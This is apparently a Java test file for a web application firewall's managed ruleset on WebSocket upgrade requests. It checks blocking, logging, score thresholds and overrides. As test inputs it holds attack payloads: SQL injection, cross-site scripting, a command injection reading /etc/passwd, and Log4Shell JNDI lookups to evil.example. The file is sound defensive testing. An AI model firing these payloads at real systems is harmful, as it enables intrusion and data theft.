package dev.pier.edge.waf;

import static org.assertj.core.api.Assertions.assertThat;

import dev.pier.analytics.RequestLog;
import dev.pier.edge.support.EdgeWithJettyOrigin;
import dev.pier.edge.support.RawHttp;
import dev.pier.edge.support.TestEdge;
import dev.pier.edge.support.WsClient;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.junit.jupiter.api.Test;

/** The managed ruleset on the upgrade request, end to end: attacks are refused, the tunnel is never inspected. */
class ManagedRulesTest extends EdgeWithJettyOrigin {

    static final String MANAGED = """
                  - phase: http_request_firewall_managed
                    rules:
                      - expression: "true"
                        action: execute
                        action_parameters:
                          id: 4814384a9e5d4991b9815dcfc25d2f1f
            """;

    TestEdge withManagedRules(String overrides) {
        return TestEdge.fromYaml(TestEdge.zoneYaml("localhost", origin.port(), "") + MANAGED + overrides);
    }

    @Test
    void anAttackInTheUpgradeRequestIsRefusedAndLoggedWithItsScores() throws Exception {
        try (TestEdge edge = withManagedRules("")) {
            int before = origin.upgrades.get();
            String response = RawHttp.exchange(edge.port(),
                    RawHttp.upgrade("/echo?room=1%27%20UNION%20SELECT%20password%20FROM%20users--", "localhost"));
            assertThat(response).startsWith("HTTP/1.1 403").contains("6179ae15870a4bb7b2d480d4843b323c");
            assertThat(origin.upgrades.get()).isEqualTo(before);
            RequestLog log = edge.nextLog();
            assertThat(log.securityAction()).isEqualTo("block");
            assertThat(log.securityRuleId()).isEqualTo("6179ae15870a4bb7b2d480d4843b323c");
            assertThat(log.securitySources()).containsExactly("firewallManaged");
            assertThat(log.wafAttackScore()).isBetween(1, 20);
            assertThat(log.wafSqliAttackScore()).isBetween(1, 20);
            assertThat(log.wafXssAttackScore()).isEqualTo(99);
            assertThat(edge.edge.usage().zone("localhost").requests()).isEqualTo(1);

            assertThat(RawHttp.exchange(edge.port(), RawHttp.upgrade("/echo", "localhost",
                    "User-Agent: sqlmap/1.8.2#stable (https://sqlmap.org)"))).startsWith("HTTP/1.1 403");
            assertThat(RawHttp.exchange(edge.port(), RawHttp.upgrade("/echo", "localhost",
                    "Cookie: session=${jndi:ldap://evil.example/a}"))).startsWith("HTTP/1.1 403");
        }
    }

    /**
     * Attacks wrapped in a comment, which the managed rules once read only without their
     * comments (so they saw nothing, and the upgrade got its 101); the Core Ruleset at paranoia
     * level 1 blocks every one. Each is refused and reaches the origin neither as an upgrade
     * nor as any other request.
     */
    @Test
    void anAttackWrappedInACommentIsRefusedAndNeverReachesTheOrigin() throws Exception {
        List<String> wrapped = List.of("/* <script>alert(document.cookie)</script> */", "/* ' or 1=1-- */",
                "/* ; cat /etc/passwd */", "/* ${jndi:ldap://x/a} */", "x/* <img src=x onerror=alert(1)> */");
        try (TestEdge edge = withManagedRules("")) {
            for (String value : wrapped) {
                int upgrades = origin.upgrades.get();
                int requests = origin.httpRequests.get();
                // the head only: an upgrade that got through would hold the connection open
                String response = RawHttp.head(edge.port(), "127.0.0.1",
                        RawHttp.upgrade("/echo?q=" + URLEncoder.encode(value, StandardCharsets.UTF_8), "localhost"));
                assertThat(response).as(value).startsWith("HTTP/1.1 403");
                RequestLog log = edge.nextLog();
                assertThat(log.securityAction()).as(value).isEqualTo("block");
                assertThat(log.securityRuleId()).as(value).isEqualTo("6179ae15870a4bb7b2d480d4843b323c");
                assertThat(log.securitySources()).as(value).containsExactly("firewallManaged");
                assertThat(origin.upgrades.get()).as(value).isEqualTo(upgrades);
                assertThat(origin.httpRequests.get()).as(value).isEqualTo(requests);
            }
            // the same request without the attack still goes through
            assertThat(RawHttp.head(edge.port(), "127.0.0.1", RawHttp.upgrade("/echo?q=" + URLEncoder.encode("/* lobby */",
                    StandardCharsets.UTF_8), "localhost"))).startsWith("HTTP/1.1 101");
        }
    }

    @Test
    void aCleanUpgradeIsScoredCleanAndItsMessagesAreNeverInspected() throws Exception {
        try (TestEdge edge = withManagedRules("")) {
            WsClient client = WsClient.connect(edge.ws("/echo?room=lobby&token=eyJhbGciOiJIUzI1NiJ9.e30.x"));
            String attack = "1' UNION SELECT password FROM users-- <script>alert(document.cookie)</script> ; cat /etc/passwd ${jndi:ldap://x}";
            client.socket.sendText(attack, true).join();
            assertThat(client.next()).isEqualTo("text:" + attack);
            client.socket.sendClose(1000, "").join();
            assertThat(client.next()).startsWith("close:1000");
            RequestLog log = edge.nextLog();
            assertThat(log.webSocket()).isTrue();
            assertThat(log.securityAction()).isNull();
            assertThat(log.wafAttackScore()).isEqualTo(99);
        }
    }

    @Test
    void overridesSetTheThresholdAndTheAction() throws Exception {
        // a lone warning-level match (24 points) passes at the default threshold (40) and is refused at 20
        String warningOnly = "/echo?q=select+name+from+users"; // 942360 alone: plain SQL, no injection around it
        try (TestEdge edge = withManagedRules("")) {
            assertThat(RawHttp.head(edge.port(), "127.0.0.1", RawHttp.upgrade(warningOnly, "localhost"))).startsWith("HTTP/1.1 101");
            assertThat(edge.nextLog().wafSqliAttackScore()).isEqualTo(51); // scored, "likely clean", not refused
        }
        try (TestEdge edge = withManagedRules("""
                              overrides:
                                rules: [ { id: 6179ae15870a4bb7b2d480d4843b323c, score_threshold: 20 } ]
                """)) {
            assertThat(RawHttp.exchange(edge.port(), RawHttp.upgrade(warningOnly, "localhost"))).startsWith("HTTP/1.1 403");
        }
        try (TestEdge edge = withManagedRules("""
                              overrides:
                                action: log
                """)) {
            assertThat(RawHttp.head(edge.port(), "127.0.0.1",
                    RawHttp.upgrade("/echo?q=%3Cscript%3Ealert(1)%3C/script%3E", "localhost"))).startsWith("HTTP/1.1 101");
            RequestLog log = edge.nextLog();
            assertThat(log.securityAction()).isNull();
            assertThat(log.securityActions()).containsExactly("log");
            assertThat(log.securityRuleIds()).containsExactly("6179ae15870a4bb7b2d480d4843b323c");
        }
    }
}
